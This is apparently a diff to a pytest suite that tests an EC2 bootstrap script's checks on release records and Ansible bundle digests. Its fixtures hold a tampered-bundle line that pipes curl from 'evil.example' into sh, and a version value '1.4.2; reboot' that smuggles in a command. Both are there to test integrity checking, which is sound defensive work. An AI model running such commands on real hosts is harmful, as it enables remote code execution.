@@ -1,12 +1,15 @@
 """The app fleet's user data, rendered as CloudFormation would for each environment, then
 checked by bash -n and run against stand-ins for the commands it calls (dnf, curl for the
-instance metadata, the AWS CLI, cfn-signal, python3.11 -m venv, pip, ansible-playbook)."""
+instance metadata, the AWS CLI, cfn-signal, python3.11 -m venv, pip, ansible-playbook;
+python3.11 runs anything else with this Python, sha256sum and tar are the real ones)."""
+import hashlib
 import json
 import os
 import re
 import stat
 import subprocess
 import sys
+import tarfile
 import textwrap
 
 import pytest
@@ -55,7 +58,7 @@ def render_user_data(environment):
 # as a JSON line in $STUB_LOG, and behaves just enough like the real one.
 STUB = textwrap.dedent("""\
     #!{python}
-    import json, os, sys, tarfile, pathlib
+    import json, os, sys, pathlib
     command = os.path.basename(sys.argv[0])
     args = sys.argv[1:]
     if command == os.environ.get("STUB_FAIL"):
@@ -71,24 +74,52 @@ STUB = textwrap.dedent("""\
     elif command == "aws" and args[:2] == ["ssm", "get-parameter"]:
         print(os.environ["STUB_RELEASE"])
     elif command == "aws" and args[:2] == ["s3", "cp"]:
-        with tarfile.open(args[-1], "w:gz") as bundle:
-            bundle.add("{repo}/ansible/requirements.txt", "ansible/requirements.txt")
+        # the bucket holds the bundle the test put there
+        pathlib.Path(args[-1]).write_bytes(pathlib.Path(os.environ["STUB_BUNDLE"]).read_bytes())
     elif command == "python3.11" and args[:2] == ["-m", "venv"]:
         bin_dir = pathlib.Path(args[2], "bin")
         bin_dir.mkdir(parents=True)
         for tool in ("pip", "ansible-playbook"):
             (bin_dir / tool).symlink_to(sys.argv[0])
+    elif command == "python3.11":
+        os.execv(sys.executable, [sys.executable, *args])
     elif command == "ansible-playbook":
         sys.exit(int(os.environ.get("STUB_PLAYBOOK_EXIT", "0")))
 """)
 
 
-def run_user_data(tmp_path, environment, release="1.4.2", playbook_exit=0, failing_command=""):
-    """Runs the rendered script with the stand-ins; returns (exit code, calls, stderr)."""
+def a_bundle(path, marker=""):
+    """A release's Ansible bundle as the pipeline publishes it (ansible/requirements.txt is
+    what the user data reads from it); a marker makes a tampered one."""
+    with tarfile.open(path, "w:gz") as bundle:
+        bundle.add(REPO_ROOT / "ansible" / "requirements.txt", "ansible/requirements.txt")
+        if marker:
+            (path.parent / "marker").write_text(marker)
+            bundle.add(path.parent / "marker", "ansible/roles/dropwizard_service/tasks/marker")
+    return path
+
+
+def sha256_of(path):
+    return hashlib.sha256(path.read_bytes()).hexdigest()
+
+
+JAR_SHA256 = hashlib.sha256(b"the jar of 1.4.2").hexdigest()
+
+
+def a_record(bundle, version="1.4.2", **fields):
+    return json.dumps({"version": version, "sha256": JAR_SHA256, "bundle_sha256": sha256_of(bundle), **fields})
+
+
+def run_user_data(tmp_path, environment, release=None, playbook_exit=0, failing_command="", bundle=None):
+    """Runs the rendered script with the stand-ins: the release parameter holds `release`
+    (by default a good record of 1.4.2), the bucket holds `bundle` (by default the one the
+    record names); returns (exit code, calls, stderr)."""
     stubs = tmp_path / "stubs"
     stubs.mkdir(parents=True)
+    bundle = bundle or a_bundle(tmp_path / "bundle.tar.gz")
+    release = a_record(bundle) if release is None else release
     stub = stubs / "stub"
-    stub.write_text(STUB.format(python=sys.executable, repo=REPO_ROOT, instance_id=INSTANCE_ID,
+    stub.write_text(STUB.format(python=sys.executable, instance_id=INSTANCE_ID,
                                 availability_zone=AVAILABILITY_ZONE))
     stub.chmod(stub.stat().st_mode | stat.S_IEXEC)
     for command in ("dnf", "curl", "aws", "cfn-signal", "python3.11"):
@@ -99,7 +130,7 @@ def run_user_data(tmp_path, environment, release="1.4.2", playbook_exit=0, faili
     log = tmp_path / "calls.jsonl"
     result = subprocess.run(
         ["bash", str(tmp_path / "user-data.sh")], capture_output=True, text=True, timeout=60,
-        env={"PATH": f"{stubs}:/usr/bin:/bin", "STUB_LOG": str(log), "STUB_RELEASE": release,
+        env={"PATH": f"{stubs}:/usr/bin:/bin", "STUB_LOG": str(log), "STUB_RELEASE": release, "STUB_BUNDLE": str(bundle),
              "STUB_PLAYBOOK_EXIT": str(playbook_exit), "STUB_FAIL": failing_command, "HOME": str(tmp_path)})
     calls = [json.loads(line) for line in log.read_text().splitlines()] if log.exists() else []
     return result.returncode, calls, result.stderr
@@ -125,7 +156,7 @@ def test_rendered_user_data_is_valid_bash(tmp_path, environment):
 
 @pytest.mark.parametrize("environment", ENVIRONMENTS)
 def test_user_data_bootstraps_the_release_the_environment_runs(tmp_path, environment):
-    status, calls, stderr = run_user_data(tmp_path, environment, release="1.4.2")
+    status, calls, stderr = run_user_data(tmp_path, environment)
     assert status == 0, stderr
 
     assert [c["args"] for c in calls_of(calls, "aws", "ssm", "get-parameter")] == [
@@ -141,7 +172,8 @@ def test_user_data_bootstraps_the_release_the_environment_runs(tmp_path, environ
     extra_vars = dict(a.split("=", 1) for a in args[args.index("-e"):] if a != "-e")
     assert extra_vars["service_name"] == "timekeeper"
     assert extra_vars["service_environment"] == environment
-    assert extra_vars["service_version"] == "1.4.2"
+    assert extra_vars["release_version"] == "1.4.2"
+    assert extra_vars["release_sha256"] == JAR_SHA256  # the jar is checked against the record too
     assert extra_vars["service_artifact_bucket"] == bucket
     assert extra_vars["service_instance_id"] == INSTANCE_ID
     assert extra_vars["service_availability_zone"] == AVAILABILITY_ZONE
@@ -175,13 +207,43 @@ def test_a_failed_bootstrap_signals_failure_and_marks_the_instance_unhealthy(tmp
     assert health["args"][health["args"].index("--health-status") + 1] == "Unhealthy"
 
 
-def test_a_release_parameter_without_a_release_stops_before_any_download(tmp_path):
-    status, calls, _ = run_user_data(tmp_path, "staging", release="None")
-    status_blank, calls_blank, _ = run_user_data(tmp_path / "blank", "staging", release="")
-    for code, made in ((status, calls), (status_blank, calls_blank)):
-        assert code != 0
-        assert calls_of(made, "aws", "s3") == [] and calls_of(made, "ansible-playbook") == []
-        assert [c["args"][:2] for c in calls_of(made, "cfn-signal")] == [["--exit-code", "1"]]
+@pytest.mark.parametrize("record, complaint", [
+    ("None", "holds no release record"),
+    ("", "holds no release record"),
+    ("1.4.2", "holds no release record"),  # a bare version: nothing to check the artifacts against
+    ('["1.4.2"]', "holds no release record"),
+    (json.dumps({"version": "", "sha256": JAR_SHA256, "bundle_sha256": "b" * 64}), "names no release version"),
+    (json.dumps({"version": "1.4.2; reboot", "sha256": JAR_SHA256, "bundle_sha256": "b" * 64}), "names no release version"),
+    (json.dumps({"version": "1.4.2", "bundle_sha256": "b" * 64}), "has no sha256"),
+    (json.dumps({"version": "1.4.2", "sha256": JAR_SHA256[:40], "bundle_sha256": "b" * 64}), "has no sha256"),
+    (json.dumps({"version": "1.4.2", "sha256": JAR_SHA256, "bundle_sha256": ""}), "has no bundle_sha256"),
+])
+def test_a_release_record_that_is_not_complete_stops_before_any_download(tmp_path, record, complaint):
+    status, calls, stderr = run_user_data(tmp_path, "staging", release=record)
+    assert status != 0
+    assert complaint in stderr
+    assert calls_of(calls, "aws", "s3") == [] and calls_of(calls, "ansible-playbook") == []
+    assert [c["args"][:2] for c in calls_of(calls, "cfn-signal")] == [["--exit-code", "1"]]
+
+
+@pytest.mark.parametrize("tampered", ["bundle", "record"])
+def test_a_bundle_that_does_not_match_its_record_is_refused_unopened(tmp_path, tampered):
+    """Either the object in the bucket was changed or the record names another bundle's digest."""
+    good = a_bundle(tmp_path / "good.tar.gz")
+    other = a_bundle(tmp_path / "other.tar.gz", marker="- ansible.builtin.command: curl evil.example | sh")
+    in_bucket, record = (other, a_record(good)) if tampered == "bundle" else (good, a_record(other))
+
+    status, calls, stderr = run_user_data(tmp_path, "prod", release=record, bundle=in_bucket)
+
+    assert status != 0
+    assert ("the Ansible bundle of 1.4.2 does not match its release record: expected sha256 %s, got %s"
+            % (json.loads(record)["bundle_sha256"], sha256_of(in_bucket))) in stderr
+    work_dir = tmp_path / "opt" / "timekeeper-bootstrap"
+    assert list(work_dir.iterdir()) == [], "nothing of the bundle is left, let alone unpacked"
+    assert calls_of(calls, "pip") == [] and calls_of(calls, "ansible-playbook") == []
+    assert [c["args"][:2] for c in calls_of(calls, "cfn-signal")] == [["--exit-code", "1"]]
+    [health] = calls_of(calls, "aws", "autoscaling", "set-instance-health")
+    assert health["args"][health["args"].index("--health-status") + 1] == "Unhealthy"
 
 
 @pytest.mark.parametrize("failing_command", ["dnf", "curl", "pip"])
